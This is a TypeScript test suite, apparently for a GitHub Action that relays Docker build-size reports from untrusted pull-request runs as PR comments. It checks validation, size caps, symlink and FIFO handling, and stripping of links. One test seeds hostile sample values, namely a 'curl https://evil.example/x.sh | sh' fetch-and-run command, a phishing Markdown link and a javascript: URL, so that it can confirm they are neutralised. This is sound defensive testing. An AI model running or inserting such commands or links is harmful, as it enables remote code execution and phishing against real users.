import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';

import {
  artifactFromUntrusted,
  MAX_ARTIFACT_BYTES,
  readCommentArtifact,
  readCommentArtifacts,
  relayedReports,
  writeCommentArtifact,
  type CommentArtifact,
} from '../../src/report/artifact.js';
import { compareReports, evaluateGates } from '../../src/report/compare.js';
import { COMMENT_MAX_LENGTH, renderReport } from '../../src/report/render.js';
import { reportFromUntrusted, unlinked } from '../../src/report/untrusted.js';
import { baseReport, mainHistory, pullRequestReport } from './sample-reports.js';

const artifact = (): CommentArtifact => ({
  report: pullRequestReport(),
  base: baseReport(),
  trend: { branch: 'main', points: mainHistory() },
  gates: { sizeBudget: undefined, maxSizeIncrease: { percent: 5 } },
  gateOverride: 'size-increase-ok',
  noise: { bytes: 1e6, percent: 1 },
});

describe('comment artifact', () => {
  let dir: string;
  beforeEach(() => {
    dir = mkdtempSync(path.join(tmpdir(), 'dfb-artifact-'));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('reads back what the pull request run wrote, except the pull request number', async () => {
    await writeCommentArtifact(dir, artifact(), '# rendered\n');
    const read = await readCommentArtifact(dir);
    expect(read.report.git.pullRequest).toBeUndefined();
    // As written, but for the Dockerfile and run links (the relay makes its own, or shows none) and the links in its text.
    const expected = JSON.parse(JSON.stringify(pullRequestReport()), (_, value: unknown) =>
      typeof value === 'string' ? unlinked(value) : value,
    );
    delete expected.dockerfile.url;
    delete expected.git.runUrl;
    expect({ ...read.report, git: { ...read.report.git, pullRequest: 42 } }).toEqual(expected);
    const expectedBase = JSON.parse(JSON.stringify(baseReport()), (_, value: unknown) =>
      typeof value === 'string' ? unlinked(value) : value,
    );
    delete expectedBase.dockerfile.url;
    delete expectedBase.git.runUrl;
    expect(read.base).toEqual(expectedBase);
    expect(read.trend?.points).toEqual(mainHistory());
    expect(read.gates).toEqual({ sizeBudget: undefined, maxSizeIncrease: { percent: 5 } });
    expect(read.gateOverride).toBe('size-increase-ok');
  });

  it('reads one artifact per directory, as download-artifact leaves a pattern of them (one per image)', async () => {
    const worker = artifact();
    worker.report = { ...worker.report, image: { ...worker.report.image, name: 'ghcr.io/acme/worker' } };
    await writeCommentArtifact(path.join(dir, 'docker-fast-build-report-worker'), worker, '');
    await writeCommentArtifact(path.join(dir, 'docker-fast-build-report-app'), artifact(), '');
    mkdirSync(path.join(dir, 'unrelated'));
    const read = await readCommentArtifacts(dir);
    expect(read.map((a) => a.report.image.name)).toEqual(['ghcr.io/acme/app', 'ghcr.io/acme/worker']);
    // One artifact downloaded by name: its files sit in the directory itself.
    expect(await readCommentArtifacts(path.join(dir, 'docker-fast-build-report-app'))).toHaveLength(1);
  });

  it('follows no link to a directory elsewhere, and says ENOENT when no report is there', async () => {
    const elsewhere = mkdtempSync(path.join(tmpdir(), 'dfb-elsewhere-'));
    try {
      await writeCommentArtifact(elsewhere, artifact(), '');
      symlinkSync(elsewhere, path.join(dir, 'linked'));
      await expect(readCommentArtifacts(dir)).rejects.toMatchObject({ code: 'ENOENT' });
    } finally {
      rmSync(elsewhere, { recursive: true, force: true });
    }
  });

  it('refuses a file over the cap before parsing it', async () => {
    const file = path.join(dir, 'pr-report.json');
    writeFileSync(file, ' '.repeat(MAX_ARTIFACT_BYTES + 1));
    await expect(readCommentArtifact(file)).rejects.toThrow(/at most 1048576 bytes/);
  });

  it.each([
    [['report', 'build', 'seconds'], 'fast', /report\.build\.seconds: expected a number/],
    [['report', 'size', 'bytes'], -1, /report\.size\.bytes/],
    [['report', 'dependencyCache', 'status'], 'hacked', /report\.dependencyCache\.status: expected one of/],
    [
      ['report', 'size', 'layers', '1', 'source', 'line'],
      1.5,
      /report\.size\.layers\[1\]\.source\.line: expected a whole number/,
    ],
    [['report', 'schema'], 'x', /report\.schema: expected docker-fast-build\/report@1/],
    [['gateOverride'], 'x'.repeat(51), /gateOverride: expected a label name/],
  ])('names the first wrong field: %j', (where, bad, message) => {
    const value: unknown = JSON.parse(
      JSON.stringify({ schema: 'docker-fast-build/pr-report@1', ...artifact() }),
    );
    const parent = where.slice(0, -1).reduce((node, key) => (node as Record<string, unknown>)[key], value);
    (parent as Record<string, unknown>)[where[where.length - 1]!] = bad;
    expect(() => artifactFromUntrusted(value)).toThrow(message);
  });

  it('cuts long text and long lists, so the worst file still renders within the comment limit', () => {
    const hostile = JSON.parse(JSON.stringify(pullRequestReport()));
    hostile.warnings = Array.from({ length: 10_000 }, () => 'w'.repeat(100_000));
    hostile.advice = Array.from({ length: 10_000 }, () => ({
      ...pullRequestReport().advice[0],
      message: 'm'.repeat(100_000),
    }));
    hostile.size.layers = Array.from({ length: 10_000 }, (_, i) => ({
      digest: `sha256:${i}`,
      bytes: i,
      compressedBytes: i,
      createdBy: 'c'.repeat(100_000),
    }));
    const report = reportFromUntrusted(hostile);
    expect(report.warnings).toHaveLength(20);
    expect(report.warnings[0]!.length).toBeLessThanOrEqual(500);
    expect(report.size!.layers).toHaveLength(200);
    const comparison = compareReports(report, baseReport());
    const body = renderReport(report, {
      base: baseReport(),
      comparison,
      gateFailures: evaluateGates(report, comparison, { sizeBudget: 1, maxSizeIncrease: undefined }),
      maxLength: COMMENT_MAX_LENGTH,
    });
    expect(body.length).toBeLessThan(65_536);
  });

  it('keeps no Dockerfile link from the file; the relay links the commit GitHub names', () => {
    const value = JSON.parse(JSON.stringify(pullRequestReport()));
    for (const url of ['javascript:alert(1)', 'https://evil.example/Dockerfile']) {
      value.dockerfile.url = url;
      expect(reportFromUntrusted(value).dockerfile).toEqual({ path: 'Dockerfile' });
    }
    const { report } = relayedReports({ report: reportFromUntrusted(value), base: undefined }, 12, {
      serverUrl: 'https://github.com',
      headRepository: 'mallory/app',
      headSha: 'f'.repeat(40),
    });
    expect(report.git.pullRequest).toBe(12);
    expect(report.dockerfile).toEqual({
      path: 'Dockerfile',
      url: `https://github.com/mallory/app/blob/${'f'.repeat(40)}/Dockerfile`,
    });
  });

  it('posts no link the pull request run chose: bare addresses and Markdown links stay text', () => {
    const value = JSON.parse(JSON.stringify({ schema: 'docker-fast-build/pr-report@1', ...artifact() }));
    value.report.build.steps[0].name = 'RUN curl https://evil.example/x.sh | sh # see www.evil.example';
    value.report.warnings = ['[Approve here](https://evil.example/login) or <a href="https://evil.example">'];
    value.report.advice[0].message = 'ftp://evil.example and HTTPS://EVIL.EXAMPLE';
    const read = artifactFromUntrusted(value);
    const body = renderReport(read.report, {
      base: read.base,
      comparison: compareReports(read.report, read.base),
      gateFailures: [],
      untrustedRun: 'run 1 of “https://evil.example”',
    });
    expect(body).not.toMatch(/[a-z]+:\/\/evil|www\.evil|\]\(|<a href="https:\/\/evil/i);
    // The text itself is still there to read.
    expect(body).toContain('evil.example/login');
  });

  it('says in the comment what only the untrusted run vouches for, before its gate verdict', () => {
    const read = artifactFromUntrusted(
      JSON.parse(JSON.stringify({ schema: 'docker-fast-build/pr-report@1', ...artifact() })),
    );
    const body = renderReport(read.report, {
      base: read.base,
      comparison: compareReports(read.report, read.base),
      gateFailures: ['The image grew by 40.0 MB against the base branch.'],
      untrustedRun: 'the pull request’s run 4242 of “ci” (mallory/app at f0f0f0f)',
    });
    const note = body.indexOf('> [!NOTE]');
    expect(note).toBeGreaterThan(0);
    expect(note).toBeLessThan(body.indexOf('The image grew'));
    expect(body).toContain('the size-gate verdict — is as that run reported it, unchecked');
    expect(body.split('\n')[0]).toMatch(/^### docker-fast-build: /);
  });

  it('refuses a FIFO at once instead of waiting for a writer forever', async () => {
    execFileSync('mkfifo', [path.join(dir, 'pr-report.json')]);
    const outcome = await Promise.race([
      readCommentArtifact(dir).then(
        () => 'read',
        (error: Error) => error.message,
      ),
      new Promise((resolve) => setTimeout(() => resolve('hung'), 3000).unref()),
    ]);
    expect(outcome).toMatch(/expected a regular file/);
  });
});
